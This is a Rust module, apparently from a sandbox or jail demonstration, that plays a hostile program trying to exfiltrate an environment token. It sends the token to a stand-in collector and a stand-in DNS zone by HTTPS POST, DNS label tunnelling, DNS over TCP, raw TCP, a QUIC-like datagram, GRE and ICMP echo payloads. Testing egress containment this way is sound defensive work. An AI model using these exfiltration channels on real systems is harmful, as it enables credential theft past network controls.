//! The hostile program of the demo: fetches a package as it should, and tries to get a token out by
//! every way it knows. It sees nothing but its environment, inside the jail and outside.

use std::io::{self, Read, Write};
use std::mem::MaybeUninit;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use etherparse::{IcmpEchoHeader, Icmpv4Header, Icmpv4Type};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, StreamOwned};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::message::{self, A, NXDOMAIN, TXT};
use super::token::Token;
use super::way::{Step, Told, Way};
use super::{
    AUTHORITY_VARIABLE, COLLECTOR, COLLECTOR_V4, DemoError, EVIL_DNS_V4, EVIL_ZONE, LITERAL_PORT,
    NOT_PERMITTED, PACKAGE, PACKAGE_PATH, REGISTRY, RESOLVER_VARIABLE, TOKEN_VARIABLE, authority,
};

/// How long an answer is waited for.
const PATIENCE: Duration = Duration::from_secs(1);
/// The resolver of a machine without a configuration file (resolv.conf(5)).
const LOCAL_RESOLVER: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
const RESOLV_CONF: &str = "/etc/resolv.conf";
/// The number of generic routing encapsulation (IANA, Protocol Numbers).
const GRE: i32 = 47;
/// The head of a GRE packet without options around IPv4 (RFC 2784 section 2).
const GRE_HEAD: [u8; 4] = [0, 0, 8, 0];
/// The start of a QUIC version 1 Initial packet (RFC 9000 section 17.2.2).
const QUIC_HEAD: [u8; 5] = [0xc3, 0, 0, 0, 1];

/// Does everything, and tells it on standard output.
pub(super) fn run() -> Result<(), DemoError> {
    let thief = Thief::from_environment()?;
    for step in Step::all() {
        tell(&Told::Trying(step, thief.plan(step)))?;
        tell(&Told::Saw(step, thief.act(step).map_err(|failed| failed.0)))?;
    }
    Ok(())
}

fn tell(told: &Told) -> Result<(), DemoError> {
    let mut line = told.encode();
    line.push('\n');
    let mut out = io::stdout();
    out.write_all(line.as_bytes()).and_then(|()| out.flush()).map_err(DemoError::Output)
}

/// Why something did not work, in a few words.
struct Failed(String);

impl From<io::Error> for Failed {
    fn from(error: io::Error) -> Failed {
        Failed(match error.kind() {
            io::ErrorKind::ConnectionReset => "connection reset".to_owned(),
            io::ErrorKind::ConnectionRefused => "port unreachable".to_owned(),
            io::ErrorKind::PermissionDenied => NOT_PERMITTED.to_owned(),
            io::ErrorKind::TimedOut | io::ErrorKind::WouldBlock => "no answer".to_owned(),
            io::ErrorKind::UnexpectedEof => "connection closed".to_owned(),
            _ => error.to_string().replace("received fatal alert: ", "alert "),
        })
    }
}

type Outcome = Result<String, Failed>;

struct Thief {
    token: Token,
    resolver: SocketAddr,
    tls: Arc<ClientConfig>,
}

impl Thief {
    fn from_environment() -> Result<Thief, DemoError> {
        let variable = |name| std::env::var(name).map_err(|_| DemoError::Variable(name));
        let certificate = BASE64_STANDARD.decode(variable(AUTHORITY_VARIABLE)?);
        let certificate = certificate.map_err(|_| DemoError::Variable(AUTHORITY_VARIABLE))?;
        Ok(Thief {
            token: Token::from_text(variable(TOKEN_VARIABLE)?),
            resolver: SocketAddr::new(resolver(), 53),
            tls: authority::client(certificate).map_err(authority::AuthorityError::from)?,
        })
    }

    fn plan(&self, step: Step) -> String {
        let labels = self.token.labels().concat();
        match step {
            Step::Package => format!("fetch {} over TLS", PACKAGE_PATH.trim_start_matches('/')),
            Step::Steal(Way::Https) => format!("POST {COLLECTOR}"),
            Step::Steal(Way::DnsLabels) => {
                format!("ask {}...t{EVIL_ZONE}", labels.get(..7).unwrap_or_default())
            }
            Step::Steal(Way::DnsTcp) => format!("ask {EVIL_DNS_V4} over TCP"),
            Step::Steal(Way::Literal) => format!("connect {COLLECTOR_V4}:{LITERAL_PORT}"),
            Step::Steal(Way::Quic) => format!("datagram {COLLECTOR_V4}:443"),
            Step::Steal(Way::Raw) => format!("GRE packet {COLLECTOR_V4}"),
            Step::Steal(Way::Icmp) => format!("echo request {COLLECTOR_V4}"),
        }
    }

    fn act(&self, step: Step) -> Outcome {
        match step {
            Step::Package => self.fetch(),
            Step::Steal(Way::Https) => self.post(),
            Step::Steal(Way::DnsLabels) => self.ask_labels(),
            Step::Steal(Way::DnsTcp) => self.ask_over_tcp(),
            Step::Steal(Way::Literal) => self.connect(),
            Step::Steal(Way::Quic) => self.datagram(),
            Step::Steal(Way::Raw) => self.raw_packet(),
            Step::Steal(Way::Icmp) => self.echo(),
        }
    }

    fn fetch(&self) -> Outcome {
        let address = self.resolve(REGISTRY)?;
        let request = format!("GET {PACKAGE_PATH} HTTP/1.1\r\nHost: {REGISTRY}\r\nConnection: close\r\n\r\n");
        let response = self.https(address, REGISTRY, &request)?;
        if response.ends_with(PACKAGE) {
            Ok(format!("{} bytes", PACKAGE.len()))
        } else {
            Err(status(&response))
        }
    }

    /// A thief whose name is not resolved knows the address by heart.
    fn post(&self) -> Outcome {
        let address = self.resolve(COLLECTOR).unwrap_or(COLLECTOR_V4);
        let token = self.token.as_str();
        let request = format!(
            "POST /{token} HTTP/1.1\r\nHost: {COLLECTOR}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{token}",
            token.len()
        );
        Ok(status(&self.https(address, COLLECTOR, &request)?).0)
    }

    fn https(&self, address: Ipv4Addr, name: &'static str, request: &str) -> Result<Vec<u8>, Failed> {
        let name = ServerName::try_from(name).map_err(|error| Failed(error.to_string()))?;
        let connection =
            ClientConnection::new(self.tls.clone(), name).map_err(|error| Failed(error.to_string()))?;
        let mut tls = StreamOwned::new(connection, connect(address, 443)?);
        tls.write_all(request.as_bytes())?;
        let mut response = Vec::new();
        tls.read_to_end(&mut response)?;
        Ok(response)
    }

    fn ask_labels(&self) -> Outcome {
        let labels = self.token.labels();
        for (index, label) in labels.iter().enumerate() {
            self.resolve(&format!("{label}.{index}.t{EVIL_ZONE}"))?;
        }
        Ok(format!("{} answers", labels.len()))
    }

    fn resolve(&self, name: &str) -> Result<Ipv4Addr, Failed> {
        let id = 0x6a01;
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.connect(self.resolver)?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send(&message::ask(id, name, A))?;
        let mut buffer = [0; 1500];
        let length = socket.recv(&mut buffer)?;
        let answer = message::read_answer(id, &buffer[..length]).ok_or(Failed("garbage".to_owned()))?;
        answer.address.ok_or_else(|| code(answer.code))
    }

    fn ask_over_tcp(&self) -> Outcome {
        let id = 0x6a02;
        let query = message::ask(id, &format!("{}.t{EVIL_ZONE}", self.token.labels().join(".")), TXT);
        let mut stream = connect(EVIL_DNS_V4, 53)?;
        stream.write_all(&[&(query.len() as u16).to_be_bytes(), &query[..]].concat())?;
        let mut length = [0; 2];
        stream.read_exact(&mut length)?;
        let mut reply = vec![0; usize::from(u16::from_be_bytes(length))];
        stream.read_exact(&mut reply)?;
        match message::read_answer(id, &reply) {
            Some(answer) if answer.code == 0 => Ok("an answer".to_owned()),
            Some(answer) => Err(code(answer.code)),
            None => Err(Failed("garbage".to_owned())),
        }
    }

    fn connect(&self) -> Outcome {
        let mut stream = connect(COLLECTOR_V4, LITERAL_PORT)?;
        stream.write_all(self.token.as_str().as_bytes())?;
        acknowledged(stream.read(&mut [0; 16])?)
    }

    fn datagram(&self) -> Outcome {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.connect((COLLECTOR_V4, 443))?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send(&[&QUIC_HEAD, self.token.as_str().as_bytes()].concat())?;
        acknowledged(socket.recv(&mut [0; 16])?)
    }

    fn raw_packet(&self) -> Outcome {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(GRE)))?;
        socket.send_to(&[&GRE_HEAD, self.token.as_str().as_bytes()].concat(), &collector())?;
        Ok("sent".to_owned())
    }

    /// By a raw socket, or by one of those that ping(1) has without privilege (icmp(7)).
    fn echo(&self) -> Outcome {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4))
            .or_else(|_| Socket::new(Domain::IPV4, Type::DGRAM, Some(Protocol::ICMPV4)))?;
        let payload = self.token.as_str().as_bytes();
        let kind = Icmpv4Type::EchoRequest(IcmpEchoHeader { id: 1, seq: 1 });
        let header = Icmpv4Header::with_checksum(kind, payload).to_bytes();
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send_to(&[&header, payload].concat(), &collector())?;
        let deadline = Instant::now() + PATIENCE;
        let mut buffer = [MaybeUninit::uninit(); 1500];
        while Instant::now() < deadline {
            let (length, from) = socket.recv_from(&mut buffer)?;
            // Other messages, about other packets, come to the same socket.
            if length >= payload.len() && from.as_socket_ipv4().is_some_and(|from| *from.ip() == COLLECTOR_V4)
            {
                return Ok("echo reply".to_owned());
            }
        }
        Err(Failed("no answer".to_owned()))
    }
}

fn connect(address: Ipv4Addr, port: u16) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&SocketAddr::from((address, port)), PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn collector() -> SockAddr {
    SocketAddr::from((COLLECTOR_V4, 0)).into()
}

fn acknowledged(length: usize) -> Outcome {
    if length == 0 { Err(Failed("connection closed".to_owned())) } else { Ok("acknowledged".to_owned()) }
}

/// `HTTP 200`, by the first line of a response.
fn status(response: &[u8]) -> Failed {
    let text = String::from_utf8_lossy(response);
    Failed(format!("HTTP {}", text.split(' ').nth(1).unwrap_or("without status")))
}

fn code(code: u8) -> Failed {
    Failed(match code {
        0 => "no address".to_owned(),
        NXDOMAIN => "NXDOMAIN".to_owned(),
        5 => "REFUSED".to_owned(),
        code => format!("DNS code {code}"),
    })
}

/// The resolver that libc would ask. Where the demo's world has no such file of its own, its name is
/// in the environment.
fn resolver() -> IpAddr {
    let told = std::env::var(RESOLVER_VARIABLE).ok().and_then(|text| text.parse().ok());
    let configured = || {
        let text = std::fs::read_to_string(RESOLV_CONF).ok()?;
        text.lines().find_map(|line| line.strip_prefix("nameserver")?.trim().parse().ok())
    };
    told.or_else(configured).unwrap_or(LOCAL_RESOLVER)
}
